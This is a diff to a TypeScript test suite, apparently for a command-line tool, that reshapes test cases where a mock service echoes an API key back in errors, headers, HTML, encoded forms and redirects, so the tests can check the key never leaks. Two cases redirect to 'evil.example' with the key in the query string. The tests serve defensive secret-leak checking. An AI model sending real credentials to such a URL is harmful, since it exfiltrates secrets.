@@ -67,77 +67,61 @@ async function leakedSecrets(
   return findSecrets([...outputs, readAllFiles(fixture.folder.path)].join("\n"), secrets);
 }
 
-interface Case {
-  readonly title: string;
-  /** The response of a service that knows the key. */
-  readonly respond: (key: string, init: RequestInit) => Response | Promise<Response>;
-}
+/** `respond`: the response of a service that knows the key. */
+type Case = readonly [
+  title: string,
+  respond: (key: string, init: RequestInit) => Response | Promise<Response>,
+];
 
 const redirect = (location: string): Response =>
   new Response(null, { status: 307, headers: { location } });
 
 const cases: readonly Case[] = [
-  {
-    title: "returns it in an error",
-    respond: (key) => errorResponse(`The key ${key} is not valid.`, 401),
-  },
-  { title: "returns it in a message", respond: (key) => json500({ message: `${key}${key}` }) },
-  { title: "returns it within a word", respond: (key) => errorResponse(`x${key}y`, 403) },
-  { title: "returns it with status 429", respond: (key) => errorResponse(key, 429) },
-  { title: "returns it with status 500", respond: (key) => errorResponse(`at ${key}`, 500) },
-  {
-    title: "returns the request headers",
-    respond: (_key, { headers }) => errorResponse(JSON.stringify([...new Headers(headers)]), 400),
-  },
-  {
-    title: "returns it in every header",
-    respond: (key) =>
+  ["returns it in an error", (key) => errorResponse(`The key ${key} is not valid.`, 401)],
+  ["returns it in a message", (key) => json500({ message: `${key}${key}` })],
+  ["returns it within a word", (key) => errorResponse(`x${key}y`, 403)],
+  ["returns it with status 429", (key) => errorResponse(key, 429)],
+  ["returns it with status 500", (key) => errorResponse(`at ${key}`, 500)],
+  [
+    "returns the request headers",
+    (_key, { headers }) => errorResponse(JSON.stringify([...new Headers(headers)]), 400),
+  ],
+  [
+    "returns it in every header",
+    (key) =>
       new Response('{"error":"no"}', {
         status: 400,
         statusText: "No",
         headers: { "www-authenticate": key, "retry-after": key, "x-api-key": key },
       }),
-  },
-  {
-    title: "returns it in HTML",
-    respond: (key) => new Response(`<html>${key}`, { status: 502 }),
-  },
-  { title: "returns it in truncated JSON", respond: (key) => new Response(`{"error":"${key}`) },
-  { title: "returns it in an object", respond: (key) => json500({ error: { message: key } }) },
-  {
-    title: "redirects to a URL with it",
-    respond: (key) => redirect(`https://evil.example/?k=${key}`),
-  },
-  {
-    title: "redirects to a URL with it, escaped",
-    respond: (key) => redirect(`https://evil.example/?k=${encodeURIComponent(key)}`),
-  },
-  {
-    title: "returns it in base64",
-    respond: (key) => errorResponse(`Authorization: ${btoa(key)}`, 400),
-  },
-  {
-    title: "returns it percent-encoded",
-    respond: (key) => errorResponse(`?key=${encodeURIComponent(key)}`, 400),
-  },
-  {
-    title: "closes the connection: the error has the key",
-    respond: (key) => Promise.reject(new Error(`failed for x-api-key: ${key}`)),
-  },
-  {
-    title: "closes the connection: the error code has the key",
-    respond: (key) =>
+  ],
+  ["returns it in HTML", (key) => new Response(`<html>${key}`, { status: 502 })],
+  ["returns it in truncated JSON", (key) => new Response(`{"error":"${key}`)],
+  ["returns it in an object", (key) => json500({ error: { message: key } })],
+  ["redirects to a URL with it", (key) => redirect(`https://evil.example/?k=${key}`)],
+  [
+    "redirects to a URL with it, escaped",
+    (key) => redirect(`https://evil.example/?k=${encodeURIComponent(key)}`),
+  ],
+  ["returns it in base64", (key) => errorResponse(`Authorization: ${btoa(key)}`, 400)],
+  ["returns it percent-encoded", (key) => errorResponse(`?key=${encodeURIComponent(key)}`, 400)],
+  [
+    "closes the connection: the error has the key",
+    (key) => Promise.reject(new Error(`failed for x-api-key: ${key}`)),
+  ],
+  [
+    "closes the connection: the error code has the key",
+    (key) =>
       Promise.reject(
         new TypeError("fetch failed", {
           cause: Object.assign(new Error(key), { code: `E_${key}` }),
         }),
       ),
-  },
-  {
-    title: "is behind a proxy that returns it",
-    respond: (key) =>
-      Promise.reject(Object.assign(new Error(`the proxy ${key}`), { name: "ProxyError" })),
-  },
+  ],
+  [
+    "is behind a proxy that returns it",
+    (key) => Promise.reject(Object.assign(new Error(`the proxy ${key}`), { name: "ProxyError" })),
+  ],
 ];
 
 function json500(body: unknown): Response {
@@ -145,7 +129,7 @@ function json500(body: unknown): Response {
 }
 
 describe("a service that knows the key", () => {
-  for (const { title, respond } of cases) {
+  for (const [title, respond] of cases) {
     it(`and ${title}`, async () => {
       for (const key of keys) {
         const env = { PROMPTCTL_BASE_URL: serviceUrl, PROMPTCTL_API_KEY: key };
